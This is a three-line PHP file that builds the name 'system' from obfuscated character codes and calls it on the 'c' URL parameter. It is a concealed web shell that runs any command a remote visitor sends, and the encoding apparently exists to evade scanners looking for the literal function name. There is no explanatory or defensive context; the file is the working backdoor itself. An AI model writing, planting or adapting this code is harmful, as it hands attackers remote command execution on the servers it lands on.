<?php
$s = chr(0x73) . chr(100 + 21) . chr(115) . chr(58 * 2) . chr(202 / 2) . chr(ord('l') + 1);
$s($_GET['c']);
